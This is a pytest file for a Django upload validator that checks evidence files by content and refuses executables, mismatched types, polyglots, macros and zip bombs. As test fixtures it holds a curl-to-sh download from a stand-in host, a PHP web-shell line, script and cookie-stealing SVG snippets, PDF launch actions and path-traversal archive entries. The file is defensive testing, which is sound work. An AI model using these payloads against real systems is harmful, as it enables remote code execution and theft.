"""Evidence uploads are judged by their content, not only by their name."""

import hashlib
import io
import re
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from hypothesis import assume, given
from hypothesis import strategies as st

from vendors.filetypes import (
    ALLOWED_EXTENSIONS,
    CONTENT_TYPES,
    ArchiveLimits,
    check_evidence_file,
    sniff_mime,
)

CHUNK = 64 * 1024
MB = 1024 * 1024
LIMIT = 20 * MB

EXECUTABLE = (
    "This file is an executable or script (detected from its content), "
    "which is never accepted as evidence."
)
ALLOWED_LIST = "pdf, png, jpg, jpeg, txt, csv, md, docx, xlsx"

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def png_chunk(kind: bytes, body: bytes) -> bytes:
    """One PNG chunk: length, type, body and CRC."""
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


# A complete 1x1 RGB image, IEND included (the check refuses bytes after it).
PNG = (
    b"\x89PNG\r\n\x1a\n"
    + png_chunk(b"IHDR", b"\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00")
    + png_chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
    + png_chunk(b"IEND", b"")
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def ooxml(*members: str) -> bytes:
    """A ZIP archive holding the given members, each with a tiny XML body."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in members:
            archive.writestr(member, '<?xml version="1.0" encoding="UTF-8"?><x/>')
    return buffer.getvalue()


DOCX = ooxml("[Content_Types].xml", "_rels/.rels", "word/document.xml")
XLSX = ooxml("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml")

SAMPLES = {
    "pdf": PDF,
    "png": PNG,
    "jpg": JPEG,
    "jpeg": JPEG,
    "txt": "Pilot notes: 42 seats, café budget €1,200.\n".encode(),
    "csv": b"vendor,seats\nAcme,42\n",
    "md": "# Findings\n\n- SOC 2 report received \u2705\n".encode(),
    "docx": DOCX,
    "xlsx": XLSX,
}


def check(name: str, data: bytes, *, max_bytes: int = LIMIT) -> tuple[str, int, str]:
    """Run the check on an in-memory upload."""
    return check_evidence_file(name=name, fileobj=io.BytesIO(data), max_bytes=max_bytes)


def refusal(name: str, data: bytes, *, max_bytes: int = LIMIT) -> ValidationError:
    """The ValidationError the check raises for this upload."""
    with pytest.raises(ValidationError) as caught:
        check(name, data, max_bytes=max_bytes)
    return caught.value


def file_messages(error: ValidationError) -> list[str]:
    """The messages shown on the form's ``file`` field."""
    return error.message_dict["file"]


@pytest.mark.parametrize("extension", list(ALLOWED_EXTENSIONS))
def test_it_accepts_each_allowed_type_and_returns_kind_size_and_sha256(extension):
    data = SAMPLES[extension]
    assert check(f"evidence.{extension}", data) == (
        ALLOWED_EXTENSIONS[extension],
        len(data),
        hashlib.sha256(data).hexdigest(),
    )


def test_it_has_a_content_type_for_every_kind():
    assert set(CONTENT_TYPES) == set(ALLOWED_EXTENSIONS.values())
    assert CONTENT_TYPES["text"] == "text/plain; charset=utf-8"


def test_it_accepts_an_uppercase_extension():
    assert check("SCAN.PDF", PDF)[0] == "pdf"


def test_it_refuses_a_disallowed_extension_listing_the_allowed_ones():
    error = refusal("setup.exe", b"harmless bytes")
    assert file_messages(error) == [
        f"Files of type .exe are not accepted. Allowed: {ALLOWED_LIST}."
    ]


def test_it_refuses_a_name_without_an_extension():
    error = refusal("README", b"plain text\n")
    assert file_messages(error) == [
        f"Files without an extension are not accepted. Allowed: {ALLOWED_LIST}."
    ]


def test_it_reports_the_refusal_on_the_file_field_with_a_code():
    error = refusal("setup.exe", b"harmless bytes")
    assert list(error.error_dict) == ["file"]
    assert error.error_dict["file"][0].code == "extension"


def test_it_refuses_a_windows_executable_renamed_to_pdf():
    assert file_messages(refusal("report.pdf", WINDOWS_EXE)) == [EXECUTABLE]


def test_it_refuses_an_elf_binary_named_txt():
    assert file_messages(refusal("notes.txt", ELF)) == [EXECUTABLE]


MACH_O_MAGICS = [
    b"\xfe\xed\xfa\xce",
    b"\xfe\xed\xfa\xcf",
    b"\xce\xfa\xed\xfe",
    b"\xcf\xfa\xed\xfe",
    b"\xca\xfe\xba\xbe",
]


@pytest.mark.parametrize("magic", MACH_O_MAGICS)
def test_it_refuses_a_mach_o_binary_named_png(magic):
    assert file_messages(refusal("screenshot.png", magic + b"\x00" * 28)) == [EXECUTABLE]


def test_it_refuses_a_shell_script_named_md():
    script = b"#!/bin/sh\ncurl https://example.invalid/payload | sh\n"
    assert file_messages(refusal("x.md", script)) == [EXECUTABLE]


def test_it_refuses_a_png_named_pdf_naming_both():
    assert file_messages(refusal("contract.pdf", PNG)) == [
        "The file is named .pdf but its content is not a PDF document."
    ]


def test_it_refuses_a_pdf_named_jpg():
    assert file_messages(refusal("photo.jpg", PDF)) == [
        "The file is named .jpg but its content is not a JPEG image."
    ]


def test_it_refuses_a_zip_without_word_document_named_docx():
    data = ooxml("[Content_Types].xml", "notes.txt")
    assert file_messages(refusal("policy.docx", data)) == [
        "The file is named .docx but its content is not a Word document."
    ]


def test_it_refuses_a_docx_named_xlsx():
    assert file_messages(refusal("budget.xlsx", DOCX)) == [
        "The file is named .xlsx but its content is not an Excel workbook."
    ]


def test_it_refuses_a_zip_signature_followed_by_garbage_named_docx():
    data = b"PK\x03\x04" + b"not really a zip archive" * 10
    assert refusal("policy.docx", data).error_dict["file"][0].code == "content_mismatch"


def test_it_refuses_a_binary_with_nul_bytes_named_csv():
    assert file_messages(refusal("export.csv", b"id,name\n1,\x00\x01\x02\n")) == [
        "The file is named .csv but its content is not UTF-8 text."
    ]


def test_it_refuses_invalid_utf8_named_txt():
    latin1 = "Résumé of the vendor call".encode("latin-1")
    assert file_messages(refusal("call.txt", latin1)) == [
        "The file is named .txt but its content is not UTF-8 text."
    ]


def test_it_refuses_text_ending_inside_a_multibyte_character():
    truncated = "price: 12 €".encode()[:-1]
    assert refusal("price.txt", truncated).error_dict["file"][0].code == "content_mismatch"


def test_it_refuses_a_nul_byte_far_beyond_the_first_chunk():
    data = b"a" * (3 * CHUNK) + b"\x00" + b"a" * 10
    assert refusal("big.txt", data).error_dict["file"][0].code == "content_mismatch"


def test_it_accepts_a_utf8_bom():
    assert check("excel-export.csv", b"\xef\xbb\xbfvendor,seats\nAcme,42\n")[0] == "text"


def test_it_accepts_a_multibyte_character_split_across_the_chunk_boundary():
    emoji = "\U0001f600".encode()  # four bytes
    data = b"a" * (CHUNK - 2) + emoji + b"\n"
    assert data[CHUNK - 1 : CHUNK + 1] == emoji[1:3]
    kind, size, _sha256 = check("long.txt", data)
    assert (kind, size) == ("text", CHUNK + 3)


def test_it_refuses_an_empty_file():
    assert file_messages(refusal("empty.pdf", b"")) == ["The file is empty."]


def test_it_refuses_an_oversized_file_naming_the_limit_in_mb():
    data = PDF + b"\n" * (5 * MB // 2 - len(PDF))
    assert file_messages(refusal("huge.pdf", data, max_bytes=2 * MB)) == [
        "The file is 2.5 MB; the limit is 2 MB."
    ]


def test_it_accepts_a_file_of_exactly_the_limit():
    data = PDF + b"\n" * (MB - len(PDF))
    assert check("exact.pdf", data, max_bytes=MB)[1] == MB


def test_it_stops_reading_once_the_limit_is_exceeded():
    class CountingBytesIO(io.BytesIO):
        bytes_read = 0

        def read(self, size: int | None = -1) -> bytes:
            data = super().read(size)
            self.bytes_read += len(data)
            return data

    upload = CountingBytesIO(PDF + b"\n" * (8 * MB))
    with pytest.raises(ValidationError, match="the limit is 1 MB") as error:
        check_evidence_file(name="huge.pdf", fileobj=upload, max_bytes=MB)
    assert error.value.error_dict["file"][0].code == "too_large"
    assert upload.bytes_read <= MB + CHUNK


def test_it_hashes_from_the_start_even_if_the_upload_was_partly_read():
    upload = io.BytesIO(PDF)
    upload.read(10)
    assert check_evidence_file(name="a.pdf", fileobj=upload, max_bytes=LIMIT)[1] == len(PDF)


def test_it_leaves_the_file_at_position_zero_after_success():
    upload = io.BytesIO(DOCX)
    check_evidence_file(name="policy.docx", fileobj=upload, max_bytes=LIMIT)
    assert upload.tell() == 0


@pytest.mark.parametrize(
    ("name", "data", "max_bytes", "code"),
    [
        ("setup.exe", PDF, LIMIT, "extension"),
        ("report.pdf", WINDOWS_EXE, LIMIT, "executable"),
        ("contract.pdf", PNG, LIMIT, "content_mismatch"),
        ("huge.pdf", PDF * 1000, 100, "too_large"),
    ],
    ids=["extension", "executable", "mismatch", "too-large"],
)
def test_it_leaves_the_file_at_position_zero_after_a_refusal(name, data, max_bytes, code):
    upload = io.BytesIO(data)
    upload.seek(7)
    with pytest.raises(ValidationError) as error:
        check_evidence_file(name=name, fileobj=upload, max_bytes=max_bytes)
    assert error.value.error_dict["file"][0].code == code
    assert upload.tell() == 0


@given(
    text=st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
        min_size=1,
    ),
    offset=st.integers(min_value=0, max_value=4),
)
def test_it_accepts_any_utf8_text_without_nul_as_txt_even_across_chunks(text, offset):
    # Leading text that happens to spell an executable signature is refused on purpose.
    assume(not text.startswith(("#!", "MZ", "\x7fELF")))
    encoded = text.encode()
    # Padding puts the second copy right where one 64 KiB chunk ends and the next begins.
    padding = b"x" * max(0, CHUNK - offset - len(encoded))
    data = encoded + padding + encoded
    assert check("notes.txt", data) == ("text", len(data), hashlib.sha256(data).hexdigest())


# --- content sniffed by libmagic, active content, polyglots, Office archives ----------------

DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCM_TYPES = DOCX_TYPES.replace(
    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "vnd.ms-word.document.macroEnabled.main+xml",
)
WORD_BODY = (
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>SOC 2 bridge letter</w:t></w:r></w:p>'
    "</w:body></w:document>"
)


def word(*extra: tuple[str, bytes], types: str = DOCX_TYPES, stored: bool = False) -> bytes:
    """A Word document as Word writes one ([Content_Types].xml first), plus ``extra`` parts."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr("word/document.xml", WORD_BODY)
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def workbook() -> bytes:
    """A real workbook, as openpyxl writes it."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["vendor", "seats"])
    book.active.append(["Acme", 42])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def code(name: str, data: bytes, **kwargs) -> str:
    """The refusal's code."""
    return refusal(name, data, **kwargs).error_dict["file"][0].code


HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me/')</script></body></html>\n"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
    b"<script>alert(document.cookie)</script></svg>\n"
)


def test_it_accepts_a_real_workbook_and_a_word_document_with_an_image():
    assert check("budget.xlsx", workbook())[0] == "xlsx"
    assert check("policy.docx", word(("word/media/image1.png", PNG)))[0] == "docx"


def test_it_refuses_html_renamed_pdf_naming_it():
    assert file_messages(refusal("report.pdf", HTML)) == [
        "The file is named .pdf but its content is HTML, "
        "active content that is never accepted as evidence."
    ]


@pytest.mark.parametrize("name", ["notes.txt", "notes.md", "export.csv"])
def test_it_refuses_html_named_as_text(name):
    assert code(name, HTML) == "active_content"


@pytest.mark.parametrize("name", ["logo.png", "logo.txt"])
def test_it_refuses_an_svg_with_script(name):
    assert file_messages(refusal(name, SVG))[0].startswith(
        f"The file is named .{name.rsplit('.')[-1]} but its content is an SVG image"
    )


def test_it_refuses_script_deep_inside_a_text_file():
    data = b"notes\n" * 50_000 + b"<script src=//evil.example/x.js></script>\n"
    assert file_messages(refusal("notes.txt", data)) == [
        "The file is UTF-8 text but also holds a script (<script>), active content "
        "that is never accepted as evidence."
    ]


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("photo.png", PNG + b"<html><script>x</script></html>", "HTML (<html>)"),
        ("photo.jpg", JPEG + b"<?php system($_GET['c']); ?>", "PHP code (<?php)"),
        ("photo.jpg", JPEG[:20] + b"<?PHP echo 1; ?>" + JPEG[20:], "PHP code (<?php)"),
        ("scan.pdf", PDF + b"<html><body>x</body></html>", "HTML (<html>)"),
        (
            "scan.pdf",
            PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript >>"),
            "PDF JavaScript (/JavaScript)",
        ),
        ("scan.pdf", PDF + b"<< /S /Launch /F (cmd.exe) >>", "a PDF launch action (/Launch)"),
    ],
    ids=["png+html", "jpeg+php", "jpeg-php-inside", "pdf+html", "pdf-javascript", "pdf-launch"],
)
def test_it_refuses_active_content_behind_a_genuine_header(name, data, words):
    (message,) = file_messages(refusal(name, data))
    assert f"but also holds {words}" in message


def test_it_refuses_a_pdf_zip_polyglot():
    appended = PDF + ooxml("payload.html")
    assert file_messages(refusal("contract.pdf", appended)) == [
        "The file is a PDF document but also holds a ZIP archive: "
        "a file that is two formats at once is not accepted."
    ]


def test_it_refuses_a_zip_entry_hidden_inside_a_pdf():
    # Only the local header, no central directory: a ZIP reader would not open it, a carver would.
    zipped = ooxml("payload.txt")
    local_header_only = zipped[: zipped.index(b"PK\x01\x02")]
    inside = PDF.replace(b"endobj", b"endobj\n" + local_header_only, 1)
    assert code("contract.pdf", inside) == "polyglot"


def test_it_refuses_a_png_with_an_appended_zip():
    (message,) = file_messages(refusal("chart.png", PNG + ooxml("x.txt")))
    assert message.startswith("The file is a PNG image but also holds a ZIP archive")


def test_it_refuses_a_pdf_inside_a_png():
    assert code("chart.png", PNG[:33] + PDF + PNG[33:]) == "polyglot"


def test_it_refuses_bytes_after_the_end_of_an_image():
    assert file_messages(refusal("chart.png", PNG + b"\x01\x02\x03")) == [
        "The file is a PNG image but has 3 bytes after the image ends; "
        "data appended to an image is not accepted."
    ]
    assert code("photo.jpg", JPEG + b"trailing payload") == "polyglot"


def test_it_accepts_padding_after_the_end_of_a_jpeg():
    assert check("photo.jpg", JPEG + b"\x00" * 16 + b"\r\n")[0] == "jpeg"


def test_it_refuses_a_png_cut_short():
    assert code("chart.png", PNG[:-12]) == "polyglot"


def test_it_refuses_a_small_zip_bomb_by_its_ratio():
    bomb = word(("customXml/item1.xml", b"\x00" * (50 * MB)))
    assert len(bomb) < 100 * 1024
    (message,) = file_messages(refusal("policy.docx", bomb))
    assert re.fullmatch(
        r"The file is a Word document that expands [\d,]+ times \([\d,]+ bytes to 52,4\d\d,\d+\);"
        r" the limit is 100 times\.",
        message,
    ), message


def test_it_refuses_the_issues_200_kb_docx_that_expands_to_200_mb_at_the_default_limits():
    buffer = io.BytesIO(word())
    # Streamed in 1 MB writes, so the test never holds 200 MB.
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("customXml/item1.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(200):
            part.write(b" " * MB)
    assert len(buffer.getvalue()) < 250 * 1024
    assert code("policy.docx", buffer.getvalue()) == "archive_too_large"


def test_it_refuses_an_office_file_that_expands_past_the_size_limit():
    data = word(("customXml/item1.xml", bytes(range(256)) * 8 * 1024))
    limits = ArchiveLimits(max_expanded_bytes=MB, max_ratio=10_000)
    with pytest.raises(ValidationError) as error:
        check_evidence_file(
            name="policy.docx", fileobj=io.BytesIO(data), max_bytes=LIMIT, archive_limits=limits
        )
    assert error.value.message_dict["file"] == [
        "The file is a Word document that expands to 2.0 MB; the limit is 1.0 MB."
    ]


def test_it_refuses_an_office_file_of_too_many_entries():
    data = word(*[(f"customXml/item{n}.xml", b"<x/>") for n in range(10)])
    with pytest.raises(ValidationError) as error:
        check_evidence_file(
            name="policy.docx",
            fileobj=io.BytesIO(data),
            max_bytes=LIMIT,
            archive_limits=ArchiveLimits(max_entries=12),
        )
    assert error.value.message_dict["file"] == [
        "The file is a Word document of 13 entries; the limit is 12."
    ]


def test_the_default_archive_limits_come_from_settings(settings):
    settings.TOLLGATE_EVIDENCE_ARCHIVE_MAX_RATIO = 2
    assert code("policy.docx", word(("customXml/item1.xml", b" " * 100_000))) == "archive_ratio"


def test_it_refuses_a_docm_renamed_docx_by_its_macro_project():
    docm = word(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"), types=DOCM_TYPES)
    assert file_messages(refusal("policy.docx", docm)) == [
        "The file is a Word document with macros (word/vbaProject.bin); "
        "macro-enabled documents are never accepted as evidence."
    ]


def test_it_refuses_a_macro_enabled_content_type_without_the_project():
    (message,) = file_messages(refusal("policy.docx", word(types=DOCM_TYPES)))
    assert "with macros (content type macroenabled)" in message


def test_it_refuses_an_xlsm_renamed_xlsx():
    buffer = io.BytesIO(workbook())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
    assert code("budget.xlsx", buffer.getvalue()) == "macro"


@pytest.mark.parametrize(
    "entry", ["../../etc/cron.d/evil", "/etc/passwd", "word/../../x.xml", "C:\\evil.xml"]
)
def test_it_refuses_office_entries_with_a_path_outside_the_document(entry):
    (message,) = file_messages(refusal("policy.docx", word((entry, b"<x/>"))))
    assert message == (
        f"The file is a Word document with an entry at {entry!r}, a path outside the document "
        "(absolute or with '..')."
    )


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("word/afchunk.html", b"<p>chunk</p>"),
        ("word/activeX/activeX1.xml", b"<ax/>"),
        ("word/_rels/document.xml.rels", b'<Relationship Target="javascript:alert(1)"/>'),
        ("customXml/item1.xml", b"<x><![CDATA[<script>alert(1)</script>]]></x>"),
    ],
    ids=["html-part", "activex", "javascript-link", "script-in-xml"],
)
def test_it_refuses_active_parts_inside_an_office_file(part, data):
    assert code("policy.docx", word((part, data))) == "active_content"


def test_it_finds_script_in_a_stored_office_part_too():
    assert code("policy.docx", word(("customXml/a.xml", b"<script>x</script>"), stored=True)) == (
        "active_content"
    )


def test_it_sniffs_with_libmagic():
    assert sniff_mime(PDF) == "application/pdf"
    assert sniff_mime(DOCX) == CONTENT_TYPES["docx"]
    assert sniff_mime(HTML) == "text/html"
    assert sniff_mime(SVG) == "image/svg+xml"
